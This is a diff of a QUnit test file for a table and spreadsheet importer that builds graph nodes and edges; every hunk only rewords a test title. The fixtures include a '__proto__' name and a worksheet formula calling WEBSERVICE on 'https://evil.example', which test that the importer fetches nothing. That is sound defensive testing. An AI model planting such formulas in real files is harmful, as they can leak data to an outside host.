@@ -141,7 +141,7 @@ QUnit.module('formats/tables', () => {
     });
   }
 
-  QUnit.test('a new map that tables make is one as it stands: reading it changes nothing', (assert) => {
+  QUnit.test('a new map from tables is normalized: parsing it changes nothing', (assert) => {
     fc.assert(
       fc.property(anyMap, fc.constantFrom('', 'n0', '__proto__'), (document, name) => {
         const sheets = [
@@ -207,7 +207,7 @@ QUnit.module('formats/tables', () => {
     },
   );
 
-  QUnit.test('nodes and edges with faults of other kinds, too: each is named, and all else is taken', (assert) => {
+  QUnit.test('other errors in nodes and edges are reported, and everything else is imported', (assert) => {
     const nodes = Array.from({ length: 100 }, (_, at) => `n${at},Node ${at},#336699,${at},0`);
     nodes[6] = 'n6,"Node 6,#336699,6,0';
     nodes[20] = 'n20,Node 20,no colour,20,0';
@@ -264,7 +264,7 @@ QUnit.module('formats/tables', () => {
     assert.deepEqual(guess('A|B\nB|C'), { kind: 'edges', hasHead: false, columns: ['from', 'to'] });
   });
 
-  QUnit.test('an edge list alone makes its nodes; beside a table of nodes an unknown end is a fault', (assert) => {
+  QUnit.test('an edge list alone creates its nodes; with a table of nodes an unknown end is an error', (assert) => {
     const list = csv('from,to,label\nA,B,uses\nB,A,feeds\nC,,uses');
     const alone = take(list);
     assert.deepEqual(
@@ -330,7 +330,7 @@ QUnit.module('formats/tables', () => {
     );
   });
 
-  QUnit.test('formulas give the value saved with them, dates are days, and nothing outside is asked for', (assert) => {
+  QUnit.test('formulas give their saved values, dates are days, and nothing is fetched', (assert) => {
     const sheet =
       '<worksheet xmlns="x"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>label</t></is></c><c r="B1" t="s"><v>0</v></c></row>' +
       '<row r="3"><c r="A3" t="str"><f>WEBSERVICE("https://evil.example")</f><v>MISP</v></c><c r="B3" s="1"><v>45000</v></c><c r="C3" t="e"><v>#REF!</v></c></row></sheetData></worksheet>';
